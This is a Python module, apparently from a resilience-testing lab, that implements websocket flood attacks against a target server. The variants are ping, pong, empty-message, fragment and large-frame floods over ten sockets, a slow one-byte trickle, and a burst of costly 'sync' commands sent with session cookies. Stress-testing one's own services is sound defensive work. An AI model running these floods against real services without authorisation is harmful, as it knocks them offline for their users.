"""Floods of websocket frames: ten sockets, each as fast as half a megabyte a second."""

import asyncio
from functools import partial

from workshop.lab import rfc6455
from workshop.lab.attacks.target import (
    Attack,
    Connection,
    Target,
    read_all,
    together,
    websocket,
)
from workshop.lab.rfc6455 import frame

SOCKETS = 10
WRITES_PER_S = 10
WRITE_BYTES = 50_000
MESSAGES_PER_WRITE = 25
"""As many messages as a socket's limits let through, and more."""

PING = frame(rfc6455.PING, b"")
PONG = frame(rfc6455.PONG, b"")
EMPTY = frame(rfc6455.TEXT, b"")
FIRST_FRAGMENT = frame(rfc6455.FIRST_TEXT, b"")
FRAGMENT = frame(rfc6455.CONTINUED, b"")
LARGE = frame(rfc6455.BINARY, bytes(16 * 1024))


async def pour(connection: Connection, piece: bytes) -> None:
    """Send `piece` ten times a second until the connection ends."""
    reader, writer = connection
    reading = asyncio.create_task(read_all(reader))
    try:
        while not reading.done():
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(1 / WRITES_PER_S)
    finally:
        reading.cancel()


def flood(frames: bytes, first: bytes = b"") -> Attack:
    """Return the attack that repeats `frames` in the sockets of nameless visitors."""
    piece = frames * max(1, WRITE_BYTES // len(frames))

    async def attack(target: Target) -> None:
        async def one_socket(number: int) -> None:
            async with websocket(target, target.room_path) as connection:
                connection[1].write(first)
                await pour(connection, piece)

        await together(SOCKETS, one_socket)

    return attack


async def small_packets(target: Target) -> None:
    """Send large frames one byte at a time."""

    async def one_socket(number: int) -> None:
        async with websocket(target, target.room_path) as (reader, writer):
            reading = asyncio.create_task(read_all(reader))
            writer.write(LARGE[:8])
            try:
                while not reading.done():
                    for _ in range(20):
                        writer.write(b"x")
                        await asyncio.sleep(0)
                    await asyncio.sleep(0.005)
            finally:
                reading.cancel()

    await together(SOCKETS, one_socket)


async def messages(target: Target) -> None:
    """Send commands that cost the server most, by guests with a name."""
    sync = frame(rfc6455.TEXT, b'{"type":"sync"}')
    await together(len(target.cookies), partial(_send_messages, target, sync))


async def _send_messages(target: Target, message: bytes, number: int) -> None:
    async with websocket(target, target.room_path, target.cookies[number]) as connection:
        await pour(connection, message * MESSAGES_PER_WRITE)


FLOODS: dict[str, Attack] = {
    "pings": flood(PING),
    "pongs": flood(PONG),
    "empty messages": flood(EMPTY),
    "fragments": flood(FRAGMENT, FIRST_FRAGMENT),
    "large frames": flood(LARGE),
    "small packets": small_packets,
    "messages": messages,
}
